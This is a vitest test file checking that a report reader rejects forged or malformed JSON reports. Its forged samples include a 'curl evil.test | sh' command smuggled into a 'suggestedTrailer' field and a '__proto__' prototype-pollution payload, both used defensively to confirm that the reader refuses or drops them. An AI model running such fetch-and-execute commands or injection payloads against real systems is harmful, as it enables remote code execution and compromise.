import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { FixtureGateError } from '../../src/errors.js';
import { comment } from '../../src/reporters/comment.js';
import { json } from '../../src/reporters/json.js';
import { MAX_REPORT_BYTES, readReport } from '../../src/reporters/read-report.js';
import type { Report } from '../../src/reporters/report.js';
import { REPORT_SCHEMA } from '../../src/reporters/report-schema.js';
import { findingsDigest } from '../../src/review/digest.js';
import { SAMPLE_NAMES, SAMPLES } from '../support/sample-report.js';

type Json = Record<string, unknown>;
const PROSE = new Set(['description', 'title']);

/** Names of properties are kept even where they are called like prose. */
function withoutProse(value: unknown, names = false): unknown {
  if (Array.isArray(value)) return value.map((each) => withoutProse(each));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value)
      .filter(([key]) => names || !PROSE.has(key))
      .map(([key, inner]) => [key, withoutProse(inner, !names && (key === 'properties' || key === '$defs'))]),
  );
}

const asWritten = (report: Report): Report => ({ ...report, digest: findingsDigest(report.findings) });
const bytesOf = (value: unknown): Uint8Array => Buffer.from(JSON.stringify(value));

it('the schema in the bundle is the published one without its prose', () => {
  const file = new URL('../../schema/report.schema.json', import.meta.url);
  expect(REPORT_SCHEMA).toEqual(withoutProse(JSON.parse(readFileSync(file, 'utf8'))));
});

describe.each(SAMPLE_NAMES)('the report of %s', (name) => {
  it('is read as it was written: it renders the same comment and is written the same again', async () => {
    const report = asWritten(SAMPLES[name]());
    const read = await readReport(Buffer.from(json.render(report)));
    expect(comment.render(read)).toEqual(comment.render(report));
    // What stands in place of a secret is itself masked under a name such as `password`, with another length.
    if (name !== 'hostile') expect(json.render(read)).toBe(json.render(report));
  });
});

async function refusal(value: Uint8Array): Promise<string> {
  try {
    await readReport(value);
  } catch (error) {
    if (error instanceof FixtureGateError) return `${error.code}: ${error.message}`;
    throw error;
  }
  return 'accepted';
}

describe('a report that is not as this program writes it', () => {
  const good = JSON.parse(json.render(asWritten(SAMPLES['snapshot-update']()))) as Json & {
    readonly findings: readonly Json[];
    readonly gates: readonly Json[];
  };
  const [first] = good.findings;
  const withFinding = (parts: Json): Json => {
    const findings = [{ ...first, ...parts }];
    return { ...good, findings, digest: findingsDigest(findings as never) };
  };

  it('the one that the forgeries begin from is accepted', async () => {
    expect(await refusal(bytesOf(good))).toBe('accepted');
  });

  it.each<[why: string, forged: Json, says: RegExp]>([
    ['a class of its own', withFinding({ class: 'HARMLESS' }), /findings\.0\.class/],
    ['an id that is no id', withFinding({ head: { oid: '@org', sha256: '', size: 1, mode: '100644' } }), /head\.oid/],
    [
      'a mode that is text',
      withFinding({ head: { oid: 'a'.repeat(40), sha256: '', size: 1, mode: '<b>' } }),
      /head\.mode/,
    ],
    ['a count that is no count', withFinding({ suppressed: -1 }), /suppressed/],
    ['a fixture without sides', withFinding({ base: null, head: null }), /every finding to have a side/],
    ['a trailer that is another line', withFinding({ suggestedTrailer: 'curl evil.test | sh' }), /suggestedTrailer/],
    ['a finding that was taken out', { ...good, findings: [] }, /digest/],
    ['a fixture twice', { ...good, findings: [first, first] }, /one finding for each path/],
    ['another schema version', { ...good, schemaVersion: 2 }, /schemaVersion/],
    ['the part of one shard', { ...good, shard: { index: 0, count: 2, unusedRules: [] } }, /shard/],
    ['another tool', { ...good, tool: { name: 'other', version: '1.0.0' } }, /tool\.name/],
    ['gates in another order', { ...good, gates: [...good.gates].reverse() }, /gates/],
    ['exit code and verdict that differ', { ...good, exitCode: 0 }, /verdict/],
    ['a place named by its writer', { ...good, policy: { source: 'base', path: 1 } }, /policy\.path/],
  ])('is refused for %s', async (_, forged, says) => {
    expect(await refusal(bytesOf(forged))).toMatch(says);
  });

  it('T54 keys that reach for prototypes are dropped like any other unknown one', async () => {
    const text = JSON.stringify(good).replace('{', '{"__proto__":{"verdict":"pass"},"constructor":1,');
    const read = await readReport(Buffer.from(text));
    expect([read.verdict, Object.keys(read).includes('constructor')]).toEqual(['fail', false]);
    expect(Object.getPrototypeOf(read)).toBe(Object.prototype);
  });

  it('T70 one byte over the limit is not parsed', async () => {
    expect(await refusal(Buffer.alloc(MAX_REPORT_BYTES + 1, 0x20))).toMatch(/at most 67108864 bytes/);
  });
});
